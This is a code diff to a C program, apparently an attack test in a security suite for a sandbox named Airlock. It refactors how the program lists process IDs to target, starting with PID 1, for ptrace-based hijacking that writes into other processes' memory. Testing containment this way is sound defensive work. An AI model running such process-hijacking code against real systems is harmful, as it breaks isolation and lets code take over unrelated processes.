@@ -9,17 +9,11 @@
 // ancestors (the suite's wrapper shell) are skipped: hijacking them proves nothing about Airlock.
 #define _GNU_SOURCE
 #include "attack.h"
-#include <dirent.h>
-#include <errno.h>
 #include <signal.h>
 #include <stdint.h>
-#include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
 #include <sys/ptrace.h>
 #include <sys/user.h>
 #include <sys/wait.h>
-#include <unistd.h>
 
 static int poke(pid_t pid, uint64_t addr, const void *data, size_t len) {
     const unsigned char *p = data;
@@ -85,14 +79,7 @@ int main(void) {
     pid_t targets[4096];
     int n = 0;
     targets[n++] = 1;
-    DIR *d = opendir("/proc");
-    struct dirent *e;
-    while (d && (e = readdir(d)) && n < 4095) {
-        pid_t pid = atoi(e->d_name);
-        if (pid <= 1 || pid == getpid() || pid == victim || ancestor(pid)) continue;
-        targets[n++] = pid;
-    }
-    if (d) closedir(d);
+    n += other_pids(targets + n, 4095 - n, victim);
     targets[n++] = victim;
     pid_t done = 0;
     for (int i = 0; i < n && !done; i++) {
